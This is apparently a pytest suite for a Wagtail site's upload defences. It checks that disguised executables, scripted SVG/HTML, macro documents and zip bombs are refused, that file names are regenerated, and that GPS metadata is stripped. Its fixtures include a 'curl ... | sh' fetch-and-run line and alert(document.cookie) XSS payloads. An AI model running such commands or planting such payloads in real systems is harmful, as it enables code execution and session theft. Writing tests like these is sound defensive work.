"""Uploads through Wagtail's admin: type read from the content, limits, generated names, no metadata."""

import io
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from extranet.services.collections import public_documents_collection

from ..files import docx_bytes, pdf_bytes, png_bytes
from ..html import body

Document = get_document_model()
Image = get_image_model()

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg_with_gps_bytes() -> bytes:
    """A photo as phones take them: GPS position, camera, and an orientation to apply."""
    exif = PILImage.Exif()
    exif[0x010F] = "PhoneMaker"  # camera make
    exif[ORIENTATION] = 6  # rotated 90° clockwise
    exif[GPS_IFD] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 21.0, 8.0)}
    buffer = io.BytesIO()
    PILImage.new("RGB", (40, 20), "blue").save(buffer, "JPEG", exif=exif, comment=b"rue des Lilas")
    return buffer.getvalue()


SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 112
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.org/x | sh\n"


def stored_files(media_root: Path) -> list[Path]:
    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []


def root_collection_id() -> int:
    return Collection.get_first_root_node().pk


def post_document(admin_client, name: str, content: bytes):
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    return admin_client.post(
        reverse("wagtaildocs:add"), {"title": "Rapport annuel", "file": upload, "collection": root_collection_id()}
    )


def post_image(admin_client, name: str, content: bytes):
    upload = SimpleUploadedFile(name, content, content_type="image/png")
    return admin_client.post(
        reverse("wagtailimages:add"), {"title": "Photo", "file": upload, "collection": root_collection_id()}
    )


def post_multiple(admin_client, url_name: str, name: str, content: bytes):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return admin_client.post(reverse(url_name), {"files[]": upload, "collection": root_collection_id()})


def assert_refused(response, media_root):
    assert response.status_code == 200
    assert response.context["form"].errors["file"]  # shown next to the file field
    assert not Document.objects.exists()
    assert not Image.objects.exists()
    assert stored_files(media_root) == []


BAD_DOCUMENTS = {
    "html named pdf": ("report.pdf", HTML_PAGE),
    "svg named txt": ("notes.txt", SVG_WITH_SCRIPT),
    "svg": ("logo.svg", SVG_WITH_SCRIPT),
    "elf named pdf": ("x.pdf", ELF_EXECUTABLE),
    "pe named pdf": ("x.pdf", PE_EXECUTABLE),
    "shell script named txt": ("notes.txt", SHELL_SCRIPT),
    "macro docx": ("report.docx", docx_bytes(macros=True)),
    "latin-1 text": ("notes.txt", "Réunion à Lyon".encode("latin-1")),
    "empty": ("report.pdf", b""),
}


def test_admin_refuses_zip_bombs(admin_client, media_root, monkeypatch):
    monkeypatch.setattr("home.core.uploads.MAX_ZIP_EXPANDED_SIZE", 1024 * 1024)
    bomb = docx_bytes(extra_parts={"word/media/blank.bin": b"\x00" * (4 * 1024 * 1024)})
    assert len(bomb) < 50_000  # small on the wire, four megabytes once expanded
    assert_refused(post_document(admin_client, "report.docx", bomb), media_root)


def test_admin_refuses_too_large_documents(admin_client, media_root, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 50
    assert_refused(post_document(admin_client, "report.pdf", pdf_bytes()), media_root)


@pytest.mark.parametrize(
    "name,content,extension",
    [
        ("Rapport 2024 — victimes.pdf", pdf_bytes(), "pdf"),
        ("rapport.odt", docx_bytes(), "docx"),  # the extension follows the content
        ("chiffres.csv", "année;victimes\n2024;12\n".encode(), "csv"),
        ("notes.txt", "Réunion à Lyon\n".encode(), "txt"),
    ],
)
def test_admin_stores_valid_documents_under_a_generated_name(admin_client, media_root, name, content, extension):
    response = post_document(admin_client, name, content)
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.title == "Rapport annuel"
    stored_name = Path(document.file.name).name
    assert stored_name.endswith(f".{extension}")
    assert Path(name).stem.split()[0].lower() not in stored_name.lower()
    assert document.file.read() == content
    assert [path.name for path in stored_files(media_root)] == [stored_name]


def test_multiple_upload_stores_valid_documents_under_a_generated_name(admin_client, media_root):
    response = post_multiple(admin_client, "wagtaildocs:add_multiple", "rapport-victimes.pdf", pdf_bytes())
    assert response.json()["success"] is True
    document = Document.objects.get()
    assert document.title == "rapport-victimes.pdf"
    assert "rapport" not in document.file.name
    assert document.file_extension == "pdf"


def test_documents_are_served_as_attachments_never_sniffed(admin_client, media_root, client):
    post_document(admin_client, "rapport.pdf", pdf_bytes())
    document = Document.objects.get()
    document.collection = public_documents_collection()  # public (finding 1: else for coordinators only)
    document.save()
    response = client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert body(response) == pdf_bytes()


BAD_IMAGES = {
    "svg named png": ("logo.png", SVG_WITH_SCRIPT),
    "svg": ("logo.svg", SVG_WITH_SCRIPT),
    "html named jpg": ("photo.jpg", HTML_PAGE),
    "elf named png": ("logo.png", ELF_EXECUTABLE),
    "empty": ("logo.png", b""),
}


# (kind, name, content) of every bad upload, documents then images.
BAD_UPLOADS = [("document", *case) for case in BAD_DOCUMENTS.values()] + [
    ("image", *case) for case in BAD_IMAGES.values()
]
BAD_UPLOAD_IDS = [f"document: {case}" for case in BAD_DOCUMENTS] + [f"image: {case}" for case in BAD_IMAGES]
ADD_ONE = {"document": post_document, "image": post_image}
ADD_MULTIPLE = {"document": "wagtaildocs:add_multiple", "image": "wagtailimages:add_multiple"}


@pytest.mark.parametrize("kind,name,content", BAD_UPLOADS, ids=BAD_UPLOAD_IDS)
def test_admin_refuses_bad_files(admin_client, media_root, kind, name, content):
    assert_refused(ADD_ONE[kind](admin_client, name, content), media_root)


@pytest.mark.parametrize("kind,name,content", BAD_UPLOADS, ids=BAD_UPLOAD_IDS)
def test_multiple_upload_refuses_bad_files(admin_client, media_root, kind, name, content):
    response = post_multiple(admin_client, ADD_MULTIPLE[kind], name, content)
    assert response.json()["success"] is False
    assert response.json()["error_message"]
    assert not Document.objects.exists()
    assert not Image.objects.exists()
    assert stored_files(media_root) == []


def test_admin_refuses_images_with_too_many_pixels(admin_client, media_root, settings):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 100
    assert_refused(post_image(admin_client, "logo.png", png_bytes((20, 20))), media_root)


def test_admin_refuses_too_large_images(admin_client, media_root, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 50
    assert_refused(post_image(admin_client, "logo.png", png_bytes()), media_root)


def assert_no_metadata(path_or_file):
    with PILImage.open(path_or_file) as image:
        assert not image.getexif()
        assert not image.getexif().get_ifd(GPS_IFD)
        assert "exif" not in image.info
        assert "comment" not in image.info
        return image.size


def test_admin_stores_photos_without_location_under_a_generated_name(admin_client, media_root):
    response = post_image(admin_client, "IMG_rue_des_Lilas.jpg", jpeg_with_gps_bytes())
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.title == "Photo"
    assert "Lilas" not in image.file.name and "IMG" not in image.file.name
    assert image.file.name.endswith(".jpg")
    stored = media_root / image.file.name
    assert assert_no_metadata(stored) == (20, 40)  # the orientation is applied, not forgotten
    assert (image.width, image.height) == (20, 40)
    assert image.file_size == stored.stat().st_size
    rendition = image.get_rendition("width-10")
    assert_no_metadata(media_root / rendition.file.name)
    assert len(stored_files(media_root)) == 2  # the original and its rendition, nothing else


def test_multiple_upload_stores_photos_without_location(admin_client, media_root):
    response = post_multiple(admin_client, "wagtailimages:add_multiple", "IMG_rue_des_Lilas.jpg", jpeg_with_gps_bytes())
    assert response.json()["success"] is True
    image = Image.objects.get()
    assert "Lilas" not in image.file.name
    assert assert_no_metadata(media_root / image.file.name) == (20, 40)


def test_images_stored_outside_the_admin_lose_their_location(media_root, db):
    """The extranet's logos are stored by code: the model itself strips the metadata."""
    image = Image(title="Logo")
    image.file = ContentFile(jpeg_with_gps_bytes(), name="logo-association.jpg")
    image.save()
    assert "logo-association" not in image.file.name
    assert assert_no_metadata(media_root / image.file.name) == (20, 40)
    assert (image.width, image.height) == (20, 40)


def test_images_without_metadata_are_kept_as_they_are(media_root, db):
    content = png_bytes()
    image = Image(title="Logo")
    image.file = ContentFile(content, name="logo-association.png")
    image.save()
    assert "logo-association" not in image.file.name
    assert (media_root / image.file.name).read_bytes() == content


def test_multiple_upload_waiting_for_details_keeps_neither_name_nor_location(admin_client, media_root):
    """When another field fails, Wagtail keeps the upload aside: already clean and anonymous."""
    upload = SimpleUploadedFile("IMG_rue_des_Lilas.jpg", jpeg_with_gps_bytes(), content_type="image/jpeg")
    response = admin_client.post(reverse("wagtailimages:add_multiple"), {"files[]": upload, "title": "x" * 300})
    assert response.json()["success"] is True
    assert not Image.objects.exists()
    [kept] = stored_files(media_root)
    assert "Lilas" not in kept.name
    assert assert_no_metadata(kept) == (20, 40)
